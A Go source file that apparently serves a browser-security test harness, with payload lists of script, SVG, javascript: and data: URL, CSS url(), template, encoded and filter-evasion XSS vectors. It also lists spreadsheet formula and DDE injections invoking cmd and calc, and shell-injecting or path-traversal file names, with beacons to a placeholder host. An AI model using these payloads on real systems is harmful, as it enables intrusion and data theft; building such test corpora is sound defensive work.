package browser

// Patterns of payloads, one a line: see families.

const scripts = `
<script>ran({n})</script>
<SCRIPT>ran({n})</SCRIPT>
<sCrIpT>ran({n})</ScRiPt >
<script >ran({n})</script >
<script/x>ran({n})</script/x>
<script x="</script>">ran({n})</script>
<script type=module>ran({n})</script>
<script type=text/javascript>ran({n})</script>
<script type="application/javascript">ran({n})</script>
<script type="">ran({n})</script>
<script language=javascript>ran({n})</script>
<script charset=utf-7>ran({n})</script>
<script>ran({n})<!-- x </script>
<script>/*<!--*/ran({n})</script>
<<script>ran({n})//<</script>
<script>eval("ra"+"n({n})")</script>
<script>setTimeout("ran({n})")</script>
<script>setInterval(ran,9,{n})</script>
<script>Function("ran({n})")()</script>
<script>(()=>{}).constructor("ran({n})")()</script>
<script>alert({n})</script>
<script>confirm({n})</script>
<script>prompt({n})</script>
<script>document.title="ran {n}"</script>
<script>location="{c}"</script>
<script>location.replace("{c}")</script>
<script>location="javascript:ran({n})"</script>
<script>fetch("{c}")</script>
<script>navigator.sendBeacon("{c}")</script>
<script>new Image().src="{c}"</script>
<script>new WebSocket("ws:{c}")</script>
<script>new EventSource("{c}")</script>
<script>import("{c}")</script>
<script>document.write("<img src={c}>")</script>
<script>document.write("<scr"+"ipt>ran({n})</scr"+"ipt>")</script>
<script>onerror=ran;throw {n}</script>
<script>[{n}].map(ran)</script>
<script>Promise.resolve({n}).then(ran)</script>
<script>queueMicrotask(()=>ran({n}))</script>
<script>ran.call(0,{n})</script>
<script>Reflect.apply(ran,0,[{n}])</script>
<script>new ran({n})</script>
<script>ran` + "`{n}`" + `</script>
<script>\u0072an({n})</script>
<script>self["r"+"an"]({n})</script>
<script>top.ran({n})</script>
<script>{{ran({n})}}</script>
<script src={c}></script>
<script src="data:text/javascript,ran({n})"></script>
<script src=data:, onload=ran({n})></script>
<script async src={c}></script>
<script type=module src={c}></script>
<script type=module>import "{c}"</script>
<script src=x{n} onerror=ran({n})></script>
`

const foreign = `
<svg onload=ran({n})>
<svg/onload=ran({n})>
<svg/onload="ran({n})"/>
<svg><script>ran({n})</script></svg>
<svg><script>ran&#40;{n}&#41;</script></svg>
<svg><script><![CDATA[ran({n})]]></script></svg>
<svg><script href={c} />
<svg><script xlink:href=data:,ran({n}) />
<svg><svg onload=ran({n})>
<svg><a xlink:href=javascript:ran({n})><text y=9>x</text></a></svg>
<svg><a href=javascript:ran({n})><circle r=9 /></a></svg>
<svg><image href=x onerror=ran({n}) />
<svg><image href={c} />
<svg><foreignObject><img src=x onerror=ran({n})></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>ran({n})</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=ran({n})></style></svg>
<svg><title><img src=x onerror=ran({n})></title></svg>
<svg><desc><svg onload=ran({n})></desc></svg>
<svg><animate onbegin=ran({n}) attributeName=x dur=1s>
<svg><set onbegin=ran({n}) attributeName=x>
<svg><animateTransform onbegin=ran({n}) attributeName=transform dur=1s>
<svg><animateMotion onbegin=ran({n}) dur=1s path=M0,0>
<svg><animate onend=ran({n}) attributeName=x dur=1ms>
<svg><set attributeName=onclick to=1 onend=ran({n}) dur=1ms>
<svg></p><img src=x onerror=ran({n})>
<svg><p><img src=x onerror=ran({n})>
<math><mtext><img src=x onerror=ran({n})></mtext></math>
<math><mi><script>ran({n})</script></mi></math>
<math><annotation-xml encoding=text/html><img src=x onerror=ran({n})></annotation-xml></math>
<math><style><img src=x onerror=ran({n})></style></math>
<math onclick=ran({n})><mi>x</mi></math>
<noscript><p title="</noscript><img src=x onerror=ran({n})>">
<table><tr><td><img src=x onerror=ran({n})></td></table>
<table><img src=x onerror=ran({n})></table>
<a><b><table><a><svg onload=ran({n})></table>
<p><select></select><svg onload=ran({n})></p>
<iframe srcdoc="<script>ran({n})</script>"></iframe>
<iframe srcdoc="&lt;script&gt;ran({n})&lt;/script&gt;"></iframe>
<iframe srcdoc="<img src=x onerror=ran({n})>"></iframe>
<iframe src=javascript:ran({n})></iframe>
<iframe src="data:text/html,<script>ran({n})</script>"></iframe>
<object data="data:text/html,<script>ran({n})</script>"></object>
<embed src="data:text/html,<script>ran({n})</script>">
<form action=javascript:ran({n})><button>x</button></form>
<form><button formaction=javascript:ran({n})>x</button></form>
<form><input type=submit formaction=javascript:ran({n})></form>
<a href=javascript:ran({n})>x</a>
<a href=" javascript:ran({n})">x</a>
<a href="&#106;avascript:ran({n})">x</a>
<area href=javascript:ran({n}) shape=default>
<img usemap=#m{n} src=x><map name=m{n}><area href=javascript:ran({n})></map>
<div><template shadowrootmode=open><img src=x onerror=ran({n})></template></div>
<div popover id=o{n} onbeforetoggle=ran({n})></div><button popovertarget=o{n}>x</button>
<input list=d{n} onfocus=ran({n}) autofocus><datalist id=d{n}>
<isindex><input type=image src=x onerror=ran({n})>
`

const requests = `
<img src={c}>
<img srcset={c}>
<img src="{c}" loading=eager>
<image src={c}>
<picture><source srcset={c}><img></picture>
<video poster={c}></video>
<video src={c}></video>
<audio src={c}></audio>
<video><source src={c}></video>
<input type=image src={c}>
<iframe src={c}></iframe>
<object data={c}></object>
<embed src={c}>
<link rel=stylesheet href={c}>
<link rel=preload as=image href={c}>
<link rel=modulepreload href={c}>
<style>@import "{c}";</style>
<style>*{background:url({c})}</style>
<p style="background:url({c})">x</p>
<b style=list-style:url({c});display:list-item>x</b>
<body background={c}>
<table background={c}><tr><td>x</table>
<td background={c}>x</td><table><td background={c}>y</table>
<meta http-equiv=refresh content=0;url={c}>
<meta http-equiv=REFRESH content="0; URL='{c}'">
<base href={c}/>
<a href={c}>x</a>
<a href={c} target=_self>x</a>
<a ping={c} href=#x>x</a>
<form action={c}><input name=a></form>
<form action={c}><button>x</button></form>
<form><button formaction={c}>x</button></form>
<svg><feImage href={c} /><image xlink:href={c} />
<map name=c{n}><area href={c}></map>
`

const bare = `
x onclick=ran({n})
x onmouseover=ran({n}) y
x autofocus onfocus=ran({n})
x><script>ran({n})</script>
x><img/src="x"/onerror=ran({n})>
x/><svg/onload=ran({n})>
x type=image src=x onerror=ran({n})
"x"onclick=ran({n})
x style=background:url({c})
`

const links = `
javascript:ran({n})
JaVaScRiPt:ran({n})
JAVASCRIPT:ran({n})
javascript:ran({n});
javascript:void(ran({n}))
javascript: ran({n})
javascript://%0aran({n})
javascript://example.org/%0Aran({n})//
javascript:/*https://example.org/*/ran({n})
javascript:%72an({n})
javascript:ran%28{n}%29
javascript:'<script>ran({n})</script>'
javascript:"<img src=x onerror=ran({n})>"
javascript:alert({n})
javascript:document.title="ran {n}";void(0)
javascript:void(fetch("{c}"))
javascript:location="{c}"
javascript:eval("ran({n})")
javascript:[{n}].map(ran);void(0)
javascript:top.ran({n})
javascript:ran({n})//https://example.org/
javascript:https://example.org/?q%0Aran({n})
&#106;avascript:ran({n})
&#x6A;avascript:ran({n})
&#0000106avascript:ran({n})
java&Tab;script:ran({n})
java&NewLine;script:ran({n})
javascript&colon;ran({n})
javascript&#58;ran({n})
javascript&#x3A;ran({n})
javascript:ran&lpar;{n}&rpar;
{c}
http:{c}
http:/{c}
HTTP:{c}
http:{c}?q=https://example.org/
http://example.org@127.0.0.1/../{n}#" onclick="ran({n})
https://example.org/{n}" onclick="ran({n})
https://example.org/"><script>ran({n})</script>
`

const frames = `
data:text/html,<script>ran({n})</script>
data:text/html;charset=utf-8,<img src=x onerror=ran({n})>
DATA:text/html,<svg onload=ran({n})>
data:text/html,%3Cscript%3Eran({n})%3C/script%3E
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran({n})"/>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran({n})'/>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>ran({n})</script></svg>
data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>ran({n})</script></html>
data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran({n})</x:script>
javascript:parent.ran({n})
JAVASCRIPT:ran({n})
javascript:'<script>ran({n})</script>'
{c}/frame
`

const styles = `
*{background:url({c})}
*{background:url("{c}")}
*{background-image:url('{c}')}
x{y:z}*{background:url({c})}/*
@import "{c}";
@import url({c});
@IMPORT '{c}';
@import "{c}" screen;
@media all{*{background:url({c})}}
@supports(color:red){*{background:url({c})}}
@layer x{*{background:url({c})}}
@font-face{font-family:x;src:url({c})}*{font-family:x}
*::before{content:url({c})}
*{b\61 ckground:u\72l({c})}
*{background:image-set("{c}" 1x)}
:root{--x:url({c});background:var(--x)}
p{list-style-image:url({c});display:list-item}
p{border:9px solid;border-image:url({c}) 1}
p{mask-image:url({c})}
body:has(p){background:url({c})}
p:not([x]){background:url({c})}
*{color:red;}</style><script>ran({n})</script><style>
</style><img src=x onerror=ran({n})>
</STYLE ><svg onload=ran({n})>
`

const styleAttributes = `
background:url({c})
x:y;background:url({c})
background-image:url('{c}')
color:red;background:url({c});
BACKGROUND:URL({c})
back/**/ground:x;background:/**/url({c})
list-style:url({c});display:list-item
border:9px solid;border-image:url({c}) 1
--x:url({c});background:var(--x)
x" onclick="ran({n})
color:red"><script>ran({n})</script>
`

const scriptTemplates = `
${ran({n})}
x${ran({n})}y
${[{n}].map(ran)}
${eval("ran({n})")}
` + "`;ran({n});`" + `
` + "`+ran({n})+`" + `
` + "`-ran({n})//" + `
${fetch("{c}")}
`

const scriptComments = `
*/ran({n})/*
*/;ran({n});//
x*/ran({n});/*y
`

const comments = `
--><script>ran({n})</script>
--><img src=x onerror=ran({n})>
--!><img src=x onerror=ran({n})>
><img src=x onerror=ran({n})>
-><svg onload=ran({n})>
x--><svg/onload=ran({n})><!--
--><meta http-equiv=refresh content=0;url={c}>
`

const markdown = `
[x](javascript:ran({n}))
[x](JaVaScRiPt:ran({n}))
[x](javascript://%0aran({n}))
[x]({c})
[x](http:{c})
[x](x" onclick="ran({n}))
[<img src=x onerror=ran({n})>](y)
![x]({c})
![x](x" onerror="ran({n}))
![" onerror="ran({n})](x)
[![x]({c})](y)
<javascript:ran({n})>
**<img src=x onerror=ran({n})>**
# <svg onload=ran({n})>
> <script>ran({n})</script>
- <img src=x onerror=ran({n})>
| <img src=x onerror=ran({n})> | x |
~~<b onclick=ran({n})>x</b>~~
***<details open ontoggle=ran({n})>x</details>***
`

const templates = `
{{ran({n})}}
{{ ran({n}) }}
{{{ran({n})}}}
{{this.ran({n})}}
{{[{n}].map(ran)}}
{{constructor.constructor("ran({n})")()}}
{{"x".constructor.constructor("ran({n})")()}}
{{ran({n})|safe}}
{{(()=>ran({n}))()}}
${ran({n})}
${{x:ran({n})}}
#{ran({n})}
*{ran({n})}
%{ran({n})}
<%= ran({n}) %>
<%ran({n})%>
<%- ran({n}) -%>
{%ran({n})%}
[[ran({n})]]
[[${ran({n})}]]
@(ran({n}))
$(ran({n}))
<?= ran({n}) ?>
{{alert({n})}}
{{location="{c}"}}
`

const entities = `
&lt;script&gt;ran({n})&lt;/script&gt;
&LT;script&GT;ran({n})&LT;/script&GT;
&lt;img src=x onerror=ran({n})&gt;
&lt;img src=x onerror=ran({n})&gt
&#60;script&#62;ran({n})&#60;/script&#62;
&#60img src=x onerror=ran({n})&#62
&#x3C;svg onload=ran({n})&#x3E;
&#X3c;svg onload=ran({n})&#X3e;
&#0000060;img src=x onerror=ran({n})&#0000062;
&#x000003c;img src=x onerror=ran({n})&#x000003e;
&amp;lt;script&amp;gt;ran({n})&amp;lt;/script&amp;gt;
&amp;#60;img src=x onerror=ran({n})&amp;#62;
&lt;a href=javascript&colon;ran({n})&gt;x&lt;/a&gt;
&lt;p onclick=&quot;ran({n})&quot;&gt;x&lt;/p&gt;
&lt;iframe srcdoc=&quot;&lt;script&gt;ran({n})&lt;/script&gt;&quot;&gt;
`

const escapes = `
%3Cscript%3Eran({n})%3C/script%3E
%3cimg src=x onerror=ran({n})%3e
%253Cscript%253Eran({n})%253C/script%253E
%u003Cimg src=x onerror=ran({n})%u003E
\u003cscript\u003eran({n})\u003c/script\u003e
\u003Cimg src=x onerror=ran({n})\u003E
\x3cimg src=x onerror=ran({n})\x3e
\74img src=x onerror=ran({n})\76
\u{3c}svg onload=ran({n})\u{3e}
%3Csvg%20onload%3Dran({n})%3E
\u0025u003cimg src=x onerror=ran({n})\u0025u003e
%5Cu003cimg src=x onerror=ran({n})%5Cu003e
`

const utf7 = `
+ADw-script+AD4-ran({n})+ADw-/script+AD4-
+ADw-img src=x onerror=ran({n})+AD4-
+ADw-svg onload+AD0-ran({n})+AD4-
+ADwAcw-cript+AD4-ran({n})+ADw-/script+AD4-
+/v8-+ADw-script+AD4-ran({n})+ADw-/script+AD4-
+ADw-a href+AD0-javascript:ran({n})+AD4-x+ADw-/a+AD4-
+ACIAPgA8-img src=x onerror=ran({n})+AD4-
`

const wide = `
＜script＞ran({n})＜/script＞
＜img src=x onerror=ran({n})＞
﹤svg onload=ran({n})﹥
＜ｉｍｇ ｓｒｃ=x ｏｎｅｒｒｏｒ=ran({n})＞
＜ｓｃｒｉｐｔ＞ran({n})＜／ｓｃｒｉｐｔ＞
＜svg onload＝ran（{n}）＞
`

const filters = `
<scr<script>ipt>ran({n})</scr</script>ipt>
<<script>script>ran({n})<</script>/script>
<im<script>g src=x onerror=ran({n})>
<img src=x oner<script>ror=ran({n})>
<sv</script>g onload=ran({n})>
<a href=java<script>script:ran({n})>x</a>
`

const formulas = `
=1+{n}
=HYPERLINK("http:{c}","x")
=HYPERLINK("http:{c}?"&A1)
=IMPORTXML("http:{c}","//a")
=IMPORTDATA("http:{c}")
=WEBSERVICE("http:{c}")
=IMAGE("http:{c}")
=cmd|' /C calc {n}'!A0
=DDE("cmd";"/C calc {n}";"x")
=EXEC("calc {n}")
=A{n}
=-{n}+1
=+{n}+1
=@SUM({n})
+{n}+cmd|' /C calc'!A0
+SUM({n},1)
-{n}+3
-1+cmd|' /C calc {n}'!A0
@SUM({n}+1)
@SUM(1+1)*cmd|' /C calc {n}'!A0
＝1+{n}
＋{n}+1
－{n}+1
＠SUM({n})
=1+{n}" x
x",=1+{n}
x";=1+{n}
x,=1+{n}
x;=1+{n}
x,@SUM({n})
=(1+{n})
=" x"&{n}
`

const fileNames = `
"><img src=x onerror=ran({n})>.png
'><svg onload=ran({n})>.svg
<script>ran({n})</script>.txt
../../{n}.html
..\..\{n}.hta
/etc/{n}
C:\{n}.exe
file:///{n}
a"; filename="{n}.html
a;filename*=UTF-8''{n}.html
%2e%2e%2f{n}.html
{n}.pdf .exe
{n}.html%00.pdf
.{n}
{n}.
-rf {n}
$(touch {n})
` + "`touch {n}`.txt" + `
|touch {n}
{n} & calc.exe
CON {n}
{n}:stream
{n}?.html
{n}*.html
javascript:ran({n}).html
`
